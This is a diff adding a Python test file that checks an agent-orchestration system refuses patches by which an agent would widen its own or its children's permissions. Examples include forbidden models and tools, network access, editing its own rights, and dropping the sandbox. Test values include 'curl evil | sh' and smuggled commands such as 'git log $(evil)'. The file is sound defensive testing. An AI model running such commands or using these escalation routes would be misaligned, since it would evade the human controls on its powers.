@@ -1,0 +1,148 @@
+"""Law 6, way by way: patches by which an agent would get, or hand on, what it may not have. Each is told why not."""
+
+from __future__ import annotations
+
+from pathlib import Path
+
+import pytest
+
+from schemas.encoding import Json, JsonObject
+from schemas.patch import HUMAN_CLI, HUMAN_FILE, Author, Patch
+from schemas.patching import Op
+from tests.reconciler.imagined import Imagined
+
+FOLDER = Path(__file__).parent / "powers"
+DOCUMENT: JsonObject = {
+    "plan": "p",
+    "open": ["mcp", "hooks", "agents"],
+    "models": {"house": {"url": "http://localhost:1/v1"}},
+    "mcp": {"files": {"command": ["server"]}},
+    "agents": {
+        "worker": {"model": "house/a", "tools": ["read", "task"], "sandbox": {"memory": 1000}},
+        "wide": {"model": "house/a", "tools": ["all"]},
+    },
+    "tasks": {
+        "a": {
+            "goal": "first",
+            "agent": "worker",
+            "cwd": "a",
+            "rights": {
+                "tools": ["read", "task", "plan_patch", "shell(git *)"],
+                "models": ["house/*"],
+                "deny": ["shell(git push *)"],
+                "spawn": 2,
+            },
+            "tasks": {"x": {"goal": "part", "agent": "worker", "cwd": "a"}},
+        },
+        "b": {"goal": "second", "agent": "worker"},
+    },
+}
+A = Author("agent", "a")
+
+
+@pytest.fixture
+def plan() -> Imagined:
+    made = Imagined(FOLDER, DOCUMENT)
+    assert made.submit(Patch(HUMAN_FILE, (Op("add", (), DOCUMENT),), 0))
+    return made
+
+
+def _child(agent: Json, **fields: Json) -> Op:
+    extended = {"extends": "worker", **agent} if isinstance(agent, dict) else agent
+    return Op("add", ("tasks", "a", "tasks", "new"), {"goal": "n", "cwd": "a", "agent": extended, **fields})
+
+
+def _at(*path: str, value: Json = None, op: str = "add") -> Op:
+    return Op(op, path, value)  # type: ignore[arg-type]
+
+
+WAYS: dict[str, tuple[Op, str]] = {
+    "a model it may not grant": (_child({"model": "openai/gpt"}), "`openai/gpt` is not allowed"),
+    "a URL inside an allowed provider": (_child({"model": "house/a@http://evil/v1"}), "is not allowed"),
+    "a summary by another model": (_child({"compact": {"model": "openai/gpt"}}), "`openai/gpt` is not allowed"),
+    "a recording, which is a file written": (_child({"model": "record/out@house/a"}), "recordings are for people"),
+    "a tool it may not grant": (_child({"extends": "wide", "tools": ["write"]}), "`write` is not allowed"),
+    "an allowance with a wider pattern": (_child({"extends": "wide", "tools": ["shell"]}), "`shell` is not allowed"),
+    "a line of rights": (_child({}, rights={"tools": ["write"]}), "`write` is more than its parent may grant"),
+    "the network": (_child({}, rights={"network": "all"}), "the network is more than"),
+    "tiers below the top": (_child({}, rights={"tiers": [{"tools": ["all"]}]}), "tiers are for the whole plan"),
+    "a program as a mind": (_child({"run": "curl evil | sh"}), "would run `curl evil | sh`"),
+    "a denied command as a mind": (_child({"run": ["git", "push", "x"]}), "would run `git push x`"),
+    "an outside agent as a mind": (_child({"outside": {"run": ["evil"]}}), "would run `evil`"),
+    "a function as a mind": (_child({"python": "evil.py:go"}), "would run `python evil.py:go`"),
+    "a prototype from a file": (_child("file:evil.yaml"), "would run `evil`"),
+    "a mixin from a file": (_child({"mixins": ["file:wild.yaml"]}), "would run `evil`"),
+    "two commands in one check": (_child({}, acceptance=[{"sh": "git log; evil"}]), "would run `git log; evil`"),
+    "a hidden command in a check": (_child({}, acceptance=[{"sh": "git log $(evil)"}]), "would run"),
+    "no sandbox": (_child({"sandbox": 0}), "`memory` of agent/a/new would be over your own"),
+    "too many children": (
+        _at("tasks", "a", "tasks", value={name: {"goal": "n", "cwd": "a"} for name in ("x", "y", "z")}, op="replace"),
+        "3 child tasks, and its rights allow 2",
+    ),
+    "children under a group": (
+        _child(None, tasks={name: {"goal": "n", "cwd": "a", "agent": "worker"} for name in ("x", "y", "z")}),
+        "3 child tasks, and its rights allow 2",
+    ),
+    "where models are asked": (_at("models", "house", "url", value="http://evil/v1", op="replace"), "for people"),
+    "a redirect of models": (_at("models", "house", "as", value="openai/gpt"), "`models` is for people"),
+    "bounds": (_at("limits", value={"parallel": 99}), "`limits` is for people"),
+    "an opened server that runs a program": (_at("mcp", "evil", value={"command": ["evil"]}), "would run `evil`"),
+    "an opened server in the network": (_at("mcp", "evil", value={"url": "http://evil"}), "may not use the network"),
+    "an opened hook": (
+        _at("hooks", value={"h": {"on": "before-call", "run": "git log"}}),
+        "hook/h, which is for people",
+    ),
+    "an opened prototype of its own": (
+        _at("agents", "worker", "tools", value=["read", "task", "plan_patch"], op="replace"),
+        "would change tools of agent/a, which is not below you",
+    ),
+    "its own rights": (_at("tasks", "a", "rights", "tools", value=["all"], op="replace"), "belongs to its parent"),
+    "its own rights under another spelling": (_at("children", "a", "rights", value={}, op="replace"), "belongs to"),
+    "a place with a coded slash": (_at("tasks", "a/rights", value={"goal": "n"}), "outside your subtree"),
+    "a place by number": (_at("tasks", "0", "rights", value={}, op="replace"), "belongs to its parent"),
+    "its parent's other child": (_at("tasks", "b", "agent", value="wide", op="replace"), "outside your subtree"),
+    "its whole task": (_at("tasks", "a", value={"goal": "mine"}, op="replace"), "belongs to its parent"),
+    "opening a field": (_child({}, open=["*"]), "`open` is for people"),
+}
+
+
+@pytest.mark.parametrize(("op", "words"), WAYS.values(), ids=WAYS.keys())
+def test_law_6_this_way_to_more_is_refused(plan: Imagined, op: Op, words: str) -> None:
+    said = plan.faults(Patch(A, (op,), plan.view.rev))
+    assert any(words in one for one in said), said
+
+
+def test_law_6_what_it_may_grant_is_taken(plan: Imagined) -> None:
+    child = _child({"run": ["git", "log"]}, acceptance=[{"sh": "git status && git diff"}])
+    assert plan.faults(Patch(A, (child,), plan.view.rev)) == ()
+    inherits = _child({"tools": ["read"]}, rights={"tools": ["read"]})
+    assert plan.submit(Patch(A, (inherits,), plan.view.rev))
+    assert plan.specs["agent/a/new"]["mind"]["model"] == "house/a"
+
+
+def test_law_6_a_set_of_tools_is_cut_to_what_may_be_granted(plan: Imagined) -> None:
+    assert plan.submit(Patch(A, (_child({"extends": "wide", "tools": ["all", "lib:all", "files"]}),), plan.view.rev))
+    spec = plan.specs["agent/a/new"]
+    assert set(spec["rights"]["tools"]) == {"read", "task", "plan_patch", "shell(git *)"}
+    assert "shell(git push *)" in spec["rights"]["deny"]
+    assert "files.*" not in spec["tools"]
+
+
+def test_law_6_what_a_person_said_of_powers_stands_though_no_file_says_it(plan: Imagined) -> None:
+    assert plan.submit(Patch(A, (_child({"tools": ["read"]}, rights={"tools": ["read"]}),), plan.view.rev))
+    narrower = Op("replace", ("tasks", "a", "tasks", "new", "rights"), {"tools": ["read"], "grant": {"tools": []}})
+    assert plan.submit(Patch(HUMAN_CLI, (narrower,), plan.view.rev))
+    wider = Op("replace", ("tasks", "a", "tasks", "new", "rights"), {"tools": ["read"]})
+    said = plan.faults(Patch(A, (wider,), plan.view.rev))
+    assert "human:cli" in said[0]
+
+
+def test_law_6_a_model_that_a_person_gave_with_its_url_is_inherited_and_no_other_is() -> None:
+    document = {**DOCUMENT, "open": [], "tasks": {"a": {"goal": "g", "agent": {"model": "m@http://here/v1"}}}}
+    plan = Imagined(FOLDER, document)
+    assert plan.submit(Patch(HUMAN_FILE, (Op("add", (), document),), 0))
+    own = ("tasks", "a", "tasks")
+    assert plan.submit(Patch(A, (Op("add", own, {"x": {"goal": "part", "agent": {"prompt": "go"}}}),), plan.view.rev))
+    assert plan.specs["agent/a/x"]["mind"]["stated"] == "m@http://here/v1"
+    elsewhere = Op("add", (*own, "y"), {"goal": "part", "agent": {"model": "m@http://there/v1"}})
+    assert "would be asked at `http://there/v1`" in plan.faults(Patch(A, (elsewhere,), plan.view.rev))[0]
